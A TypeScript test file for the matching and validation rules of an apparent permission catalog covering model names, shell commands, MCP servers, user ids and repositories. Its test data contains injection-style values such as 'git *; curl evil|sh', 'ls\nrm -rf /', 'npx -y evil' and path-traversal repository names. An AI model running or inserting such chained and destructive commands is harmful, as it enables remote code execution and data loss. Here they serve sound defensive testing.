import { describe, expect, it } from "vitest";
import { flawOf, kinds } from "../../../src/catalog/kinds/index.ts";
import { behaves, texts } from "./support.ts";

const invisible = /invisible or control/;
const foreign = /beyond ASCII/;

behaves("models", {
  kind: kinds.model,
  covers: [
    [["gpt-5"], "gpt-5", true],
    [["gpt-5"], "GPT-5", false],
    [["gpt-5"], "gpt-5-mini", false],
    [["gpt-5"], "x-gpt-5", false],
    [["gpt-5"], "openrouter/gpt-5", false],
    [["gpt-5*"], "gpt-5-mini", true],
    [["gpt-5*"], "gpt-5", true],
    [["*gpt-5"], "openrouter/gpt-5", true],
    [["claude-*-4-*"], "claude-sonnet-4-20250514", true],
    [["claude-*-4-*"], "claude-4-sonnet", false],
    [["claude-*", "gpt-5"], "gpt-5", true],
    [["gpt-*"], "gpt-5*", true],
    [["gpt-5*"], "gpt-*", false],
    [["gpt-5"], "*", false],
    [["*"], "*", true],
    [["gpt-5.1"], "gpt-5x1", false],
    [["gpt-?"], "gpt-5", false],
    [["gpt-[5]"], "gpt-5", false],
    [["{a,b}"], "a", false],
  ],
  same: [["gpt-5"], ["GPT-5"], ["gpt-5 mini"], ["*"], ["$(x)"]],
  malformed: [
    ["gpt-5 ", /white space/],
    [" gpt-5", /white space/],
    ["gpt\u20115", foreign],
    ["gpt-5\u200b", invisible],
    ["g\u0440t-5", foreign],
    ["gpt-5\n", invisible],
    ["gpt-5\u0000", invisible],
    ["gpt-5\ud800", invisible],
    ["", /is empty/],
    [5, /should be a string/],
    [null, /should be a string/],
    [["gpt-5"], /should be a string/],
  ],
  overlaps: [
    ["gpt-5", "gpt-5", true],
    ["gpt-5", "gpt-6", false],
    ["gpt-*", "gpt-5", true],
    ["gpt-5", "*-5", true],
    ["gpt-*", "*-mini", true],
    ["gpt-*", "claude-*", false],
    ["*", "anything", true],
    ["a*b", "a*c", false],
  ],
  values: texts("ab*- \u0440"),
});

behaves("commands", {
  kind: kinds.command,
  covers: [
    [["git status"], "git status", true],
    [["git *"], "git status", true],
    [["git *"], "git", false],
    [["git *"], "git  status", true],
    [["git *"], "env git", false],
    [["git status"], "git status; curl evil", false],
    [["git *"], "git *; curl evil|sh", true], // a wildcard matches any characters, operators too
    [["npm run build", "npm run test"], "npm run *", false],
    [["rm"], "/bin/rm", false],
    [["rm"], "RM", false],
    [["rm"], "r''m", false],
    [["ls"], "*", false],
  ],
  same: [["ls"], ["ls -l"], ["bash -c 'x'"]],
  malformed: [
    ["l\u0455", foreign],
    ["git\tpush", invisible],
    ["ls\nrm -rf /", invisible],
    ["ls ", /white space/],
    ["", /is empty/],
  ],
  overlaps: [
    ["*", "rm", true],
    ["bash", "bash", true],
    ["bash -c x", "bash *", true],
    ["git *", "git push", true],
    ["npm *", "npm run *", true],
    ["git status", "git push", false],
    ["/bin/rm", "rm", false],
    ["/bin/rm", "*rm", true],
  ],
  values: texts("ab* /"),
});

behaves("MCP servers", {
  kind: kinds.mcp,
  covers: [
    [["mcp.linear.app"], "mcp.linear.app", true],
    [["github"], "GitHub", false],
    [["mcp.linear.app"], "*", false],
    [["corp-mcp *"], "corp-mcp --read-only", true],
  ],
  same: [["mcp.linear.app"], ["MCP.linear.app"], ["npx -y server"]],
  malformed: [
    ["github\u200b", invisible],
    ["g\u0456thub", foreign],
  ],
  overlaps: [
    ["*", "npx", true],
    ["npx -y evil", "npx *", true],
    ["github", "GitHub", false],
  ],
  values: texts("ab*. "),
});

behaves("user ids", {
  kind: kinds.user,
  covers: [
    [["user_1"], "user_1", true],
    [["user_1"], "user_12", false],
    [["user_1"], "USER_1", false],
    [["svc_*"], "svc_deploy", true],
  ],
  same: [["user_1"], ["User_1"]],
  malformed: [["user_1\u200d", invisible]],
  overlaps: [
    ["user_*", "user_1", true],
    ["user_1", "user_2", false],
  ],
  values: texts("a1_*"),
});

behaves("texts", {
  kind: kinds.text,
  covers: [
    [["Corp model"], "Corp model", true],
    [["Corp model"], "corp model", false],
    [["Corp *"], "Corp model", false],
  ],
  same: [["a"], ["a "], ["\u00e9"], ["e\u0301"], ["\ud83d\udc69\u200d\ud83d\udcbb\ufe0f"], [""]],
  malformed: [
    ["a\u202eb", invisible],
    ["a\u0007b", invisible],
    ["a\ud800", invisible],
    [7, /should be a string/],
  ],
  overlaps: [
    ["a", "a", true],
    ["a", "a*", false],
  ],
  values: texts("ab*\u0007"),
});

behaves("repositories", {
  kind: kinds.repository,
  covers: [
    [["corp/plugins"], "corp/plugins", true],
    [["corp/plugins"], "corp/plugins.git", false],
    [["corp/plugins"], "Corp/Plugins", false],
    [["corp/plugins"], "https://github.com/corp/plugins", false],
    [["corp/*"], "corp/plugins", false],
  ],
  same: [["corp/plugins"], ["Corp/Plugins"], ["https://git.example.com/a/b.git"]],
  malformed: [
    ["corp/plugins/../evil/x", /hides what it names/],
    ["corp\u2215plugins", foreign],
    ["corp/./plugins", /hides/],
    ["corp%2fplugins", /hides/],
    ["corp\\plugins", /hides/],
    ["corp /plugins", /hides/],
    ["../plugins", /hides/],
    ["https://github.com//corp/plugins", /hides/],
    ["corp//plugins", /hides/],
    ["https://github.com./corp/plugins", /hides/],
    ["https://git.example.com.:443/corp/plugins", /hides/],
  ],
  overlaps: [
    ["corp/plugins", "corp/plugins", true],
    ["https://github.com:443/corp/plugins", "corp/plugins", true],
    ["ssh://git@github.com:22/corp/plugins.git", "corp/plugins", true],
    ["git://github.com/corp/plugins", "corp/plugins", true],
    ["git+https://github.com/corp/plugins?ref=main", "corp/plugins", true],
    ["https://git.example.com:443/corp/plugins", "https://git.example.com/corp/plugins", true],
    ["https://git.example.com:8443/corp/plugins", "https://git.example.com/corp/plugins", false],
    ["https://github.com:8443/corp/plugins", "corp/plugins", false],
    ["Corp/Plugins.git", "corp/plugins", true],
    ["https://github.com/corp/plugins", "corp/plugins", true],
    ["git@github.com:corp/plugins.git", "corp/plugins", true],
    ["ssh://git@github.com/corp/plugins", "corp/plugins", true],
    ["https://gitlab.com/corp/plugins", "corp/plugins", false],
    ["corp/plugins2", "corp/plugins", false],
  ],
  values: texts("aA/."),
});

describe("names", () => {
  it("are the same for models, commands, MCP servers and user ids", () => {
    for (const kind of [kinds.model, kinds.command, kinds.mcp, kinds.user]) {
      expect(flawOf(kind, "a".repeat(100_000))).toBeUndefined();
      expect(kind.type).toBe("string");
    }
  });
});
